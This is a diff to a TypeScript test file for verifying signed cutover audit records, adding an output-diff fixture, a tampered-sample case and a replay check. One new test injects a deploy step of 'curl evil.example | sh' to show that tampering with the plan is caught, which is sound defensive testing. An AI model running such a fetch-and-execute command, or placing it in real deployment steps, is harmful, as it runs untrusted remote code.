@@ -1,6 +1,7 @@
 /**
  * The record an auditor verifies offline (`cutover export`, `cutover verify`), from real cutovers on the
- * time-skipping server: a completed cutover with attested sign-offs, a rejected and a rolled-back one export and
+ * time-skipping server: a completed cutover with attested sign-offs (and an output diff with one allowed differing
+ * row), a rejected and a rolled-back one export and
  * verify, with the audit trail the workflow chained as it went; the
  * DSSE signature verifies with an independent implementation of the spec's PAE (node:crypto, written here); a
  * record changed after its export fails at the envelope; a record signed by a key the auditor does not trust fails;
@@ -28,7 +29,8 @@ import { cutoverWorkflow } from '../../workflows';
 import { requestRollbackSignal, statusQuery, submitSignOffUpdate } from '../../workflows/messages';
 import { chainStart } from '../../workflows/digest';
 import { APPROVERS, timeSkippingWorker, uniqueId, waitForStatus } from '../helpers/harness';
-import { makePlan, makePlanInput } from '../helpers/plans';
+import { makePlan, makePlanInput, nodeRun } from '../helpers/plans';
+import type { ShadowResult } from '../../shapes/evidence';
 
 const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex');
 const sha256Hex = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
@@ -50,11 +52,14 @@ const cutoversOf = (client: Client) => ({ client, namespace: 'default' }) as unk
  * role approving and operations rolling production back while it is monitored.
  */
 async function runCutover(end: 'approve' | 'reject' | 'roll back'): Promise<string> {
-  const { production } = makePlanInput();
+  const input = makePlanInput();
+  const { production } = input;
   const plan =
     end === 'roll back'
       ? makePlan({ production: { ...production, monitor: { ...production.monitor, window: '24h' } } })
-      : makePlan();
+      : end === 'approve'
+        ? makePlan(withOutput(input))
+        : makePlan();
   const handle = await t.env.client.workflow.start(cutoverWorkflow, {
     taskQueue: t.taskQueue,
     workflowId: uniqueId('record'),
@@ -87,6 +92,23 @@ async function runCutover(end: 'approve' | 'reject' | 'roll back'): Promise<stri
   }
   await handle.result();
   return handle.workflowId;
+}
+
+/**
+ * The test plan with an output table, `t`, that V2 writes with one row's `x` changed, which the plan allows: the
+ * keyed diff passes with that row as its sample.
+ */
+function withOutput(input: ReturnType<typeof makePlanInput>) {
+  const writes = (rows: string, out: unknown) =>
+    nodeRun(
+      `require('fs').writeFileSync(process.argv[1], ${JSON.stringify(`id,x\n${rows}\n`)}); process.stdout.write(${JSON.stringify(JSON.stringify(out))})`,
+    );
+  const printed = { metrics: { TotalReceivable: 1000, PAR30: 0.1 }, rows: 10 };
+  return {
+    baseline: { run: [...writes('1,10\n2,20\n3,30', printed), '{output:t}'] },
+    candidate: { run: [...writes('1,10\n2,21\n3,30', printed), '{output:t}'] },
+    shadow: { ...input.shadow, outputs: { t: { key: ['id'], format: 'csv' as const, maxDifferingRows: 1 } } },
+  };
 }
 
 let completed: Envelope;
@@ -227,6 +249,17 @@ test.each<[string, (s: Statement) => void, RegExp]>([
     },
     /^evidence: predicate\.evidence: its digest is/,
   ],
+  [
+    'a sample row of a diff',
+    (s) => {
+      const shadow = s.predicate.evidence.shadow as ShadowResult;
+      const sample = shadow.datasets[0]?.outputs?.[0]?.samples[0];
+      // DuckDB's big integers come as text.
+      expect(sample?.v2).toMatchObject({ x: '21' });
+      sample!.v2!.x = '20';
+    },
+    /^evidence: predicate\.evidence: its digest is/,
+  ],
   ['the policy digest', (s) => void (s.predicate.policyDigest = 'f'.repeat(64)), /^evidence: predicate\.policyDigest/],
   [
     'a sign-off’s approver',
@@ -297,6 +330,7 @@ describe('--replay: the record held to its history, and the history to this rele
     expect(checks.map((c) => c.check)).toEqual([
       'history',
       'replay',
+      'history plan',
       'history sign-offs',
       'history audit',
       'history outcome',
@@ -350,6 +384,16 @@ describe('--replay: the record held to its history, and the history to this rele
     const rolledBack = recordOf(reSigned((s) => void (s.predicate.outcome.state = 'rolled-back')));
     expect(failed(await replayChecks(rolledBack, rolledBack.history.json))).toEqual([
       'history outcome: predicate.outcome.state is rolled-back, the history ended completed',
+    ]);
+  }, 60_000);
+
+  test('an action of the plan changed (a lying worker) holds offline, and the history’s plan check names it', async () => {
+    const changed = recordOf(
+      reSigned((s) => void (s.predicate.plan.production.deploy = { run: ['sh', '-c', 'curl evil.example | sh'] })),
+    );
+    expect(failed(verifyRecord(signRecord(changed, signer), trust))).toEqual([]);
+    expect(failed(await replayChecks(changed, changed.history.json))).toEqual([
+      "history plan: predicate.plan is not the effective plan the workers' plan check returned in the history",
     ]);
   }, 60_000);
 
